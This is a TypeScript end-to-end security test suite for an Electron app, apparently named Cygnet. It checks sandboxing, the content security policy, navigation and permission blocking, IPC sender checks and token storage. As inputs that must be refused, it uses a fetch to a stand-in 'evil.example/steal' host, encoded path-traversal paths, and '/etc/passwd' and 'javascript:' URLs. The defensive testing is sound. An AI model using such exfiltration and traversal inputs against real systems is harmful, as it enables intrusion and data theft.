import { readdirSync, readFileSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { openCygnet, useCygnet, type Cygnet } from './support/cygnet.ts'
import { grid } from './support/grid.ts'

// The lines of the security checklist that only a running app can prove. What one function decides is proved in test/shell/.
describe('the window and its page', () => {
  const cygnet = useCygnet({ host: 'app', home: 'synced' })

  test('windows are sandboxed, isolated and without Node', async () => {
    const { main, on } = cygnet()
    const preferences = await main(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map(({ webContents }) => {
        const given = webContents.getLastWebPreferences()
        const { sandbox, contextIsolation, nodeIntegration, webviewTag } = given
        return { sandbox, contextIsolation, nodeIntegration, webviewTag }
      }),
    )
    expect(preferences).toEqual([{ sandbox: true, contextIsolation: true, nodeIntegration: false, webviewTag: false }])
    // All processes of pages, whatever window asks.
    if (on === 'double') expect(await main(({ calls }) => calls.map(({ api }) => api))).toContain('app.enableSandbox')
  })

  test('the page has nothing of Node, and a bridge that cannot be bent', async () => {
    const { page } = cygnet()
    await grid(page).waitFor()
    const seen = await page.evaluate(() => {
      const all = globalThis as unknown as Record<string, object | undefined>
      const bridge = all['cygnetBridge'] ?? {}
      return {
        node: ['require', 'process', 'module', 'Buffer', '__dirname'].filter((name) => name in globalThis),
        bridge: Object.keys(bridge).sort(),
        frozen: Object.isFrozen(bridge) && Object.values(bridge).every((value) => Object.isFrozen(value)),
      }
    })
    expect(seen).toEqual({ node: [], bridge: ['listen', 'post'], frozen: true })
  })

  test('the page comes with its policy, as a header and in itself', async () => {
    const { page } = cygnet()
    const { header, meta } = await page.evaluate(async () => {
      const answer = await fetch(location.href.replace(/#.*/, ''))
      const element = document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')
      return { header: answer.headers.get('content-security-policy') ?? '', meta: element?.content ?? '' }
    })
    for (const policy of [header, meta]) {
      expect(policy).toContain("default-src 'none'")
      expect(policy).toContain("script-src 'self';")
      expect(policy).not.toContain('unsafe-eval')
    }
    expect(header).toContain("frame-ancestors 'none'")
  })

  test('the policy holds: no eval, no foreign script, no foreign address, no frame', async () => {
    const { page } = cygnet()
    const outcome = await page.evaluate(async () => {
      const broken: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective))
      // From a task of the page's own: what the debugger runs at once may evaluate.
      const refused = async (work: () => unknown) => {
        await new Promise((resolve) => setTimeout(resolve))
        try {
          await work()
          return false
        } catch {
          return true
        }
      }
      const evaled = await refused(() => (0, eval)('1'))
      const fetched = await refused(() => fetch('https://evil.example/steal'))
      const script = document.createElement('script')
      script.textContent = 'globalThis.ran = true'
      document.head.append(script)
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
      await new Promise((resolve) => setTimeout(resolve, 100))
      frame.remove()
      return { evaled, fetched, ran: 'ran' in globalThis, broken: [...new Set(broken)].sort() }
    })
    expect(outcome).toMatchObject({ evaled: true, fetched: true, ran: false })
    expect(outcome.broken).toEqual(['connect-src', 'frame-src', 'script-src', 'script-src-elem'])
  })

  test('nothing outside the page is served', async () => {
    const { page } = cygnet()
    const answers = await page.evaluate(() =>
      Promise.all(
        ['/%2e%2e/main/main.js', '/..%2fmain%2fmain.js', '/..%5cmain%5cmain.js', '/%00', '/nothing.js'].map(
          async (path) => (await fetch(path)).status,
        ),
      ),
    )
    expect(answers).toEqual([404, 404, 404, 404, 404])
  })

  test('no permission is given but that of copying', async () => {
    const { page } = cygnet()
    const states = await page.evaluate(() =>
      Promise.all(
        ['geolocation', 'notifications', 'camera', 'midi', 'clipboard-read', 'clipboard-write'].map(
          async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state,
        ),
      ),
    )
    expect(states).toEqual(['denied', 'denied', 'denied', 'denied', 'denied', 'granted'])
  })

  test('the page goes nowhere, opens nothing, and hands only known addresses to the browser', async () => {
    const { page, main } = cygnet()
    await main(({ shell }) => {
      const opened: string[] = []
      shell.openExternal = (url: string) => {
        opened.push(url)
        return Promise.resolve()
      }
      Object.assign(globalThis, { opened })
    })
    const home = page.url()
    const urls = ['https://evil.example/', 'https://github.com/cygnet', 'file:///etc/passwd', 'javascript:alert(1)']
    await page.evaluate((all) => {
      for (const url of all) window.open(url)
    }, urls)
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = 'https://evil.example/'
      document.body.append(link)
      link.click()
      link.remove()
    })
    const opened = () => main(() => (globalThis as unknown as { opened: string[] }).opened)
    await expect.poll(opened).toEqual(['https://github.com/cygnet'])
    expect(page.url()).toBe(home)
    expect(
      page
        .context()
        .pages()
        .filter((each) => each.url().startsWith('https://evil')),
    ).toEqual([])
    expect(await main(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
  })

  test.each(['will-redirect', 'will-attach-webview', 'will-navigate', 'will-frame-navigate'])(
    '%s is prevented',
    async (name) => {
      const prevented = await cygnet().main(({ BrowserWindow }, event) => {
        let stopped = false
        const asked = { url: 'https://evil.example/', isMainFrame: true, preventDefault: () => (stopped = true) }
        BrowserWindow.getAllWindows()[0]?.webContents.emit(event, asked)
        return stopped
      }, name)
      expect(prevented).toBe(true)
    },
  )

  test('a frame inside the page is led nowhere, not even to ourselves', async () => {
    const prevented = await cygnet().main(({ BrowserWindow }) => {
      let stopped = false
      const asked = { url: 'app://cygnet/', isMainFrame: false, preventDefault: () => (stopped = true) }
      BrowserWindow.getAllWindows()[0]?.webContents.emit('will-frame-navigate', asked)
      return stopped
    })
    expect(prevented).toBe(true)
  })

  test('a message is read only from the main frame of our own page', async () => {
    const { main, call } = cygnet()
    const names = async () => (await call('apps.list', {})).map((app) => app.name)
    const before = await names()
    const send = (from: 'main' | 'inner' | 'gone', name: string) =>
      main(
        ({ BrowserWindow, ipcMain }, { sender, named }) => {
          const contents = BrowserWindow.getAllWindows()[0]?.webContents
          const message = { t: 'q', i: named, m: 'call', a: ['apps.add', { name: named, check: false }] }
          const frames = { main: contents?.mainFrame, inner: { url: 'app://cygnet/' }, gone: null }
          ipcMain.emit('cygnet', { sender: contents, senderFrame: frames[sender] }, message)
        },
        { sender: from, named: name },
      )
    await send('inner', '来自内嵌框架')
    await send('gone', '来自已关闭的框架')
    await send('main', '来自页面')
    await expect.poll(names).toEqual([...before, '来自页面'])
  })

  test('what is not in the contract is refused, and so is a wrong input', async () => {
    const { call } = cygnet()
    const ask = call as (method: string, input: unknown) => Promise<unknown>
    for (const method of ['nothing.such', 'constructor', '__proto__'])
      await expect(ask(method, {})).rejects.toMatchObject({ code: 'input.invalid' })
    await expect(ask('apps.add', { name: 7 })).rejects.toMatchObject({ code: 'input.invalid' })
    await expect(ask('files.reveal', { path: '/etc/passwd' })).rejects.toMatchObject({ code: 'file.unreadable' })
  })
})

describe('secrets', () => {
  const TOKEN = '121.e2e.a-token-that-must-not-be-found'
  const add = ({ call }: Cygnet) => call('apps.add', { name: '一个', token: TOKEN, check: false })
  const state = async ({ call }: Cygnet) => (await call('apps.list', {})).map(({ tokenState }) => tokenState)
  const found = (folder: string) =>
    readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name))
      .filter((path) => readFileSync(path).includes(TOKEN))

  test('lie sealed by the key ring; one that is gone makes them unreadable, and nothing else', async () => {
    const cygnet = await openCygnet({ host: 'app' })
    try {
      await add(cygnet)
      expect(found(cygnet.home)).toEqual([])
      await cygnet.restart()
      expect(await state(cygnet)).toEqual(['ok'])
      expect((await cygnet.call('home.status', {})).door.secretsPersist).toBe(true)
      await cygnet.quit()
      rmSync(join(cygnet.home, '.double-key'))
      await cygnet.restart()
      expect(await state(cygnet)).toEqual(['unreadable'])
    } finally {
      await cygnet.close()
    }
  })

  test('are kept in memory only where the key is one that everybody knows', async () => {
    const cygnet = await openCygnet({ host: 'app', env: { ELECTRON_DOUBLE_KEYRING: '0' } })
    try {
      expect((await cygnet.call('home.status', {})).door.secretsPersist).toBe(false)
      await cygnet.page.getByText('令牌只保存在内存里').waitFor()
      await add(cygnet)
      expect(await state(cygnet)).toEqual(['ok'])
      expect(found(cygnet.home)).toEqual([])
      await cygnet.restart()
      expect(await state(cygnet)).toEqual(['unreadable'])
    } finally {
      await cygnet.close()
    }
  })
})
